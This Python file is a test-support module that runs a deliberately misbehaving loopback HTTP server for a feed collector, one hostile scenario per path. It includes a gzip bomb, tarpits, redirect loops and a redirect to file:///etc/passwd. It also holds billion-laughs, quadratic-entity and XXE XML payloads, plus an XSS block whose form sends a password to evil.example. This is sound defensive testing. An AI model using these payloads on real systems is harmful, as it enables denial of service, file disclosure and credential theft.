"""A real HTTP server on loopback that misbehaves on purpose, one scenario per path.

    from tests.support.hostile_server import ROUTES, SCENARIOS, serve

    with serve(ROUTES) as base:            # base is the URL, e.g. "http://127.0.0.1:41234"
        url = base + "/good.rss"
        ...
        base.received["/good.rss"]         # request headers seen, one dict per request

``SCENARIOS`` pairs every path with what ``collect()`` should report for it (``Expect``), so an
end-to-end test can check each feed's outcome without restating the catalogue. The
expectations assume test-sized limits, as in ``LIMITS`` below: a read timeout
(1 s) above TRICKLE_INTERVAL and below the deadline (5 s: a redirect loop or 2 MiB must hit
their own limits first even with both cores busy; at 2 s they did not), and caps of a few MiB.

Slow scenarios wait on a stop event instead of sleeping, and every connection is shut when the
``with`` block ends, so no handler thread outlives it.
"""

from __future__ import annotations

import functools
import socket
import sys
import threading
import zlib
from collections import defaultdict
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

from newsletter.sources import Limits

# Below any read timeout a test uses, so only the total deadline can stop these.
TRICKLE_INTERVAL = 0.2
GOOD_ETAG = '"good-v1"'
GOOD_LAST_MODIFIED = "Mon, 06 Jan 2025 10:00:00 GMT"
RETRY_DATE = "Wed, 21 Oct 2037 07:28:00 GMT"
# What the expectations assume; tests/test_collect_hostile.py writes the same into feeds.yaml.
LIMITS = Limits(
    concurrency=10,
    connect_timeout=1,
    read_timeout=1,
    deadline=5,
    max_bytes=2 << 20,
    max_decoded_bytes=4 << 20,
    parse_workers=2,
    parse_memory_mb=512,
)

Route = Callable[["_Handler"], None]


@dataclass(frozen=True)
class Expect:
    """What collect() should report for a scenario (substrings of the one-sentence errors)."""

    status: int | None = 200
    error: str | None = None  # in fetch.error
    parse_error: str | None = None
    entries: int | None = None  # when parsed
    permanent: bool = False  # permanent_url set
    warning: bool = False  # entries salvaged from ill-formed XML
    retry_after: str | None = None


@dataclass(frozen=True)
class Scenario:
    respond: Route
    expect: Expect


class ServerURL(str):
    """The server's base URL, carrying the request headers it received, per path."""

    received: dict[str, list[dict[str, str]]]
    opened: list[tuple[str, int]]  # the client's address of every connection accepted


@contextmanager
def serve(routes: Mapping[str, Route]) -> Iterator[ServerURL]:
    """Run a loopback server for ``routes`` (path -> handler) during the ``with`` block."""
    server = _Server(("127.0.0.1", 0), _Handler)
    server.routes = dict(routes)
    thread = threading.Thread(target=server.serve_forever, name="hostile-server", daemon=True)
    thread.start()
    base = ServerURL(f"http://127.0.0.1:{server.server_address[1]}")
    base.received = server.received
    base.opened = server.opened
    try:
        yield base
    finally:
        server.stop.set()
        server.shutdown()
        server.close_connections()
        server.server_close()  # joins the handler threads
        thread.join()


class _Server(ThreadingHTTPServer):
    daemon_threads = False
    block_on_close = True  # server_close() waits for every handler: none outlives the test
    request_queue_size = 128  # the default 5 drops connections when many feeds start at once

    def __init__(self, address: tuple[str, int], handler: type[BaseHTTPRequestHandler]) -> None:
        super().__init__(address, handler)
        self.routes: dict[str, Route] = {}
        self.stop = threading.Event()
        self.received: dict[str, list[dict[str, str]]] = defaultdict(list)
        self.opened: list[tuple[str, int]] = []
        self._connections: set[socket.socket] = set()
        self._lock = threading.Lock()

    def track(self, connection: socket.socket, alive: bool) -> None:
        with self._lock:
            if alive:
                self.opened.append(connection.getpeername())
            (self._connections.add if alive else self._connections.discard)(connection)

    def handle_error(self, request: object, client_address: object) -> None:
        if not isinstance(sys.exc_info()[1], ConnectionError | TimeoutError):
            super().handle_error(request, client_address)  # type: ignore[arg-type]
        # A client hanging up on a kept-alive connection is no news.

    def close_connections(self) -> None:
        """Wake handlers blocked reading a kept-alive connection."""
        with self._lock:
            for connection in self._connections:
                with suppress(OSError):
                    connection.shutdown(socket.SHUT_RDWR)


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 5  # a client that neither reads nor closes cannot hold a thread for long
    server: _Server

    def setup(self) -> None:
        super().setup()
        self.server.track(self.connection, alive=True)

    def finish(self) -> None:
        self.server.track(self.connection, alive=False)
        super().finish()

    def do_GET(self) -> None:
        path = urlsplit(self.path).path
        self.server.received[path].append({k.lower(): v for k, v in self.headers.items()})
        route = self.server.routes.get(path, _not_found)
        try:
            route(self)
        except (BrokenPipeError, ConnectionResetError, TimeoutError):
            self.close_connection = True  # the client gave up: exactly what we test for

    @property
    def stopping(self) -> threading.Event:
        return self.server.stop

    def reply(self, status: int, body: bytes = b"", headers: Mapping[str, str] = {}) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def start_stream(self, headers: Mapping[str, str]) -> None:
        """Headers for a body of unknown length, delimited by closing the connection."""
        self.close_connection = True
        self.send_response(200)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Connection", "close")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass  # quiet: the tests report what matters


RSS = {"Content-Type": "application/rss+xml; charset=utf-8"}
ATOM = {"Content-Type": "application/atom+xml; charset=utf-8"}


def _not_found(h: _Handler) -> None:
    h.reply(404, b"no such scenario", {"Content-Type": "text/plain"})


def _static(body: bytes, headers: Mapping[str, str] = RSS, status: int = 200) -> Route:
    return lambda h: h.reply(status, body, headers)


def _redirect(status: int, to: str) -> Route:
    return lambda h: h.reply(status, b"", {"Location": to})


def _good_rss(h: _Handler) -> None:
    validators = {"ETag": GOOD_ETAG, "Last-Modified": GOOD_LAST_MODIFIED}
    if h.headers.get("If-None-Match") == GOOD_ETAG:
        h.reply(304, b"", validators)
    else:
        h.reply(200, GOOD_RSS, {**RSS, **validators})


def _compressed(body: bytes, encoding: str) -> Route:
    wbits = 31 if encoding == "gzip" else -15  # "deflate" as many servers send it: raw
    packer = zlib.compressobj(6, zlib.DEFLATED, wbits)
    packed = packer.compress(body) + packer.flush()
    return _static(packed, {**RSS, "Content-Encoding": encoding})


def _tarpit(h: _Handler) -> None:
    h.start_stream(RSS)
    h.wfile.write(b"<")
    while not h.stopping.wait(TRICKLE_INTERVAL):
        h.wfile.write(b" ")


def _trickled_headers(h: _Handler) -> None:
    h.close_connection = True
    h.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
    while not h.stopping.wait(TRICKLE_INTERVAL):
        h.wfile.write(b"a")


def _silent(h: _Handler) -> None:
    h.close_connection = True
    h.stopping.wait()


def _endless(h: _Handler) -> None:
    h.start_stream(RSS)
    chunk = b"<!-- endless -->" * 4096
    while not h.stopping.is_set():
        h.wfile.write(chunk)


def _redirect_with_endless_body(h: _Handler) -> None:
    """httpx's own redirect following reads a redirect's whole body, without any cap."""
    h.close_connection = True
    h.send_response(302)
    h.send_header("Location", "/good.rss")
    h.send_header("Connection", "close")
    h.end_headers()
    chunk = b"x" * 65536
    while not h.stopping.is_set():
        h.wfile.write(chunk)


def _gzip_bomb(h: _Handler) -> None:
    """~1 MB of gzip that inflates to 1 GiB of zeros.

    Compressed once, not per request: compressing as it was sent cost the server enough CPU
    that on a busy machine the client hit its deadline before the decompression cap.
    """
    header, piece = _bomb_parts()
    h.start_stream({**RSS, "Content-Encoding": "gzip"})
    h.wfile.write(header)
    for _ in range(1024):
        if h.stopping.is_set():
            return
        h.wfile.write(piece)


@functools.cache
def _bomb_parts() -> tuple[bytes, bytes]:
    """A gzip header, and 1 MiB of zeros as raw deflate that can be repeated after it.

    A full flush ends the piece on a byte boundary with an empty history, so copies of it
    back to back are valid deflate data. The stream never ends: the client gives up first.
    """
    header = zlib.compressobj(9, zlib.DEFLATED, 31)
    raw = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return (
        header.compress(b"") + header.flush(zlib.Z_FULL_FLUSH),
        raw.compress(bytes(1 << 20)) + raw.flush(zlib.Z_FULL_FLUSH),
    )


# The documents. Plain constants, so a test can also parse them without the server.


def _rss(items: str, *, title: str = "Hostile test feed", head: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{head}\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><title>{title}</title><link>https://example.com/</link>{items}"
        "</channel></rss>"
    ).encode()


def _item(title: str, guid: str | None = None, link: str | None = None, extra: str = "") -> str:
    parts = [f"<title>{title}</title>"]
    if guid is not None:
        parts.append(f"<guid>{guid}</guid>")
    if link is not None:
        parts.append(f"<link>{link}</link>")
    return f"<item>{''.join(parts)}{extra}</item>"


_DATE = "<pubDate>Mon, 06 Jan 2025 09:00:00 GMT</pubDate>"
GOOD_RSS = _rss(
    _item("First post", "https://example.com/posts/1", "https://example.com/posts/1", _DATE)
    + _item("Second post", "https://example.com/posts/2", "https://example.com/posts/2", _DATE)
    + _item("Third &amp; last", "https://example.com/posts/3", "https://example.com/posts/3")
)
# The same article as GOOD_RSS's first, as another site syndicates it: tracking parameters,
# an upper-case host, a default port.
CROSSPOST_RSS = _rss(
    _item("First post (via a planet)", "https://EXAMPLE.com:443/posts/1?utm_source=planet")
    + _item("Planet news", "https://planet.example.org/news/1")
)
GOOD_ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom test feed</title>
<link href="https://atom.example.net/"/><id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
<updated>2025-01-06T10:00:00Z</updated>
<entry><title>Atom one</title><id>tag:atom.example.net,2025:1</id>
<link href="https://atom.example.net/1"/><updated>2025-01-06T10:00:00Z</updated>
<content type="html">&lt;p&gt;Hello &lt;em&gt;world&lt;/em&gt;&lt;/p&gt;</content></entry>
<entry><title type="html">Atom &lt;b&gt;two&lt;/b&gt;</title><id>tag:atom.example.net,2025:2</id>
<link href="https://atom.example.net/2"/><updated>2025-01-05T10:00:00+02:00</updated>
<summary>plain &amp; simple</summary></entry>
</feed>"""
HTML_PAGE = b"""<!DOCTYPE html><html><head><title>Not a feed</title></head>
<body><h1>Welcome</h1><p>Our feed is elsewhere.</p></body></html>"""
# The second item's closing tag is wrong: expat stops, feedparser's loose parser salvages.
MALFORMED_RSS = _rss(
    _item("Fine", "https://example.com/m/1") + "<item><title>Broken</title><guid>m2</guid></itm>"
)
_LAUGHS = "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' if i else '<!ENTITY lol0 "lol">' for i in range(10)
)
BILLION_LAUGHS = _rss(_item("&lol9;", "bl1"), head=f"<!DOCTYPE rss [{_LAUGHS}]>")
# One 40 KB entity used 2,000 times: 80 KB in, 80 MB out (far more in feedparser's loose parser).
QUADRATIC = _rss(
    _item("q", "q1", extra=f"<description>{'&big;' * 2000}</description>"),
    head=f'<!DOCTYPE rss [<!ENTITY big "{"A" * 40_000}">]>',
)
XXE = _rss(_item("&xxe;", "x1"), head='<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
UTF16_ENTITIES = (
    BILLION_LAUGHS.decode().replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16")
)
_HOSTILE_HTML = """<p onclick="alert('click')">Intro
<a href="javascript:alert('js')">js</a> <a href="JaVaScRiPt:alert('JS')">JS</a>
<a href="&#106;avascript:alert('ref')">ref</a> <a href=" java&#x09;script:alert('tab')">tab</a>
<img src="pic.png" onerror="alert('onerror')"> <img src="data:image/png;base64,iVBORw0KGgo=">
<a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">data</a>
<script>alert('script')</script><style>body { display: none }</style>
<iframe src="https://evil.example/frame">frame</iframe>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<object data="https://evil.example/x.swf">object</object><embed src="https://evil.example/x.swf">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<svg onload="alert('svg')"><circle r="1"/></svg><math><mi>x</mi></math>
<a href="/about" title="About">about us</a> <b>bold</b></p>"""
SCRIPTS_RSS = _rss(
    _item(
        "Scripts &lt;script&gt;alert('title')&lt;/script&gt;in the title",
        "https://example.com/s/1",
        "https://example.com/s/1",
        f"<description><![CDATA[{_HOSTILE_HTML}]]></description>"
        f"<content:encoded><![CDATA[{_HOSTILE_HTML}]]></content:encoded>",
    )
    + _item(
        "Escaped HTML",
        "https://example.com/s/2",
        extra="<description>&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)"
        "&lt;/script&gt;text</description>",
    )
)
CONTROL_CHARS_RSS = _rss(
    _item("Null\x00 and vertical\x0btab", "https://example.com/c/1")
    + _item("Surrogate &#xD800; reference", "https://example.com/c/2")
    + _item("Decimal &#55296; and nul &#0; refs", "https://example.com/c/3")
)
# Written on an old system: Windows-1252 bytes, declared UTF-8 in the header and the XML.
CP1252_RSS = _rss(_item("Café “quoted”", "https://example.com/cafe")).replace(
    "Café “quoted”".encode(), "Café “quoted”".encode("cp1252")
)
REPEATED_GUIDS_RSS = _rss(
    _item("First copy", "dup-1") + _item("Second copy", "dup-1") + _item("Other", "dup-2")
)
MISSING_GUIDS_RSS = _rss(
    _item("Link only", link="https://example.com/only-link?utm_medium=rss#top")
    + _item("Neither guid nor link", extra=_DATE)
)
RELATIVE_RSS = _rss(
    _item(
        "Relative",
        link="posts/relative",
        extra='<description>&lt;a href="../about"&gt;about&lt;/a&gt; '
        '&lt;img src="/img/x.png"&gt;</description>',
    )
)

_REFUSED = Expect(parse_error="refused: the feed declares XML entities")

SCENARIOS: dict[str, Scenario] = {
    "/good.rss": Scenario(_good_rss, Expect(entries=3)),
    "/good.atom": Scenario(
        _static(GOOD_ATOM, {**ATOM, "Last-Modified": GOOD_LAST_MODIFIED}), Expect(entries=2)
    ),
    "/crosspost.rss": Scenario(_static(CROSSPOST_RSS), Expect(entries=2)),
    "/gzip.rss": Scenario(_compressed(GOOD_RSS, "gzip"), Expect(entries=3)),
    "/deflate.rss": Scenario(_compressed(GOOD_RSS, "deflate"), Expect(entries=3)),
    "/tarpit": Scenario(_tarpit, Expect(status=None, error="timed out after")),
    "/trickled-headers": Scenario(_trickled_headers, Expect(status=None, error="timed out after")),
    "/silent": Scenario(_silent, Expect(status=None, error="the server sent nothing for")),
    "/endless": Scenario(_endless, Expect(status=None, error="response larger than")),
    "/gzip-bomb": Scenario(_gzip_bomb, Expect(status=None, error="once decompressed")),
    "/loop-a": Scenario(_redirect(302, "/loop-b"), Expect(status=None, error="too many redirects")),
    "/loop-b": Scenario(_redirect(302, "/loop-a"), Expect(status=None, error="too many redirects")),
    "/moved-301": Scenario(_redirect(301, "/good.rss"), Expect(entries=3, permanent=True)),
    "/moved-308": Scenario(_redirect(308, "/good.atom"), Expect(entries=2, permanent=True)),
    "/moved-302": Scenario(_redirect(302, "/good.rss"), Expect(entries=3)),
    "/redirect-with-endless-body": Scenario(_redirect_with_endless_body, Expect(entries=3)),
    "/redirect-to-file": Scenario(
        _redirect(302, "file:///etc/passwd"),
        Expect(status=None, error="unsupported URL scheme"),
    ),
    "/missing-404": Scenario(_not_found, Expect(status=404, error="HTTP 404 Not Found")),
    "/gone-410": Scenario(_static(b"gone", status=410), Expect(status=410, error="HTTP 410 Gone")),
    "/busy-429": Scenario(
        _static(b"slow down", {"Retry-After": "120"}, 429),
        Expect(status=429, error="HTTP 429 Too Many Requests", retry_after="120"),
    ),
    "/down-503": Scenario(
        _static(b"down", {"Retry-After": RETRY_DATE}, 503),
        Expect(status=503, error="HTTP 503 Service Unavailable", retry_after=RETRY_DATE),
    ),
    "/broken-500": Scenario(
        _static(b"oops", status=500), Expect(status=500, error="HTTP 500 Internal Server Error")
    ),
    "/page.html": Scenario(
        _static(HTML_PAGE, {"Content-Type": "text/html; charset=utf-8"}),
        Expect(parse_error="not a feed: the document is an HTML page"),
    ),
    "/body-is-a-path": Scenario(
        _static(b"/etc/passwd", {"Content-Type": "text/plain"}), Expect(parse_error="not a feed")
    ),
    "/malformed.rss": Scenario(_static(MALFORMED_RSS), Expect(entries=2, warning=True)),
    "/billion-laughs.rss": Scenario(_static(BILLION_LAUGHS), _REFUSED),
    "/quadratic.rss": Scenario(_static(QUADRATIC), _REFUSED),
    "/xxe.rss": Scenario(_static(XXE), _REFUSED),
    "/utf16-entities.rss": Scenario(
        _static(UTF16_ENTITIES, {"Content-Type": "application/xml"}), _REFUSED
    ),
    "/scripts.rss": Scenario(_static(SCRIPTS_RSS), Expect(entries=2)),
    "/control-chars.rss": Scenario(_static(CONTROL_CHARS_RSS), Expect(entries=3)),
    "/cp1252.rss": Scenario(_static(CP1252_RSS), Expect(entries=1)),
    "/repeated-guids.rss": Scenario(_static(REPEATED_GUIDS_RSS), Expect(entries=2)),
    "/missing-guids.rss": Scenario(_static(MISSING_GUIDS_RSS), Expect(entries=2)),
    "/relative.rss": Scenario(_static(RELATIVE_RSS), Expect(entries=1)),
}

ROUTES: dict[str, Route] = {path: scenario.respond for path, scenario in SCENARIOS.items()}
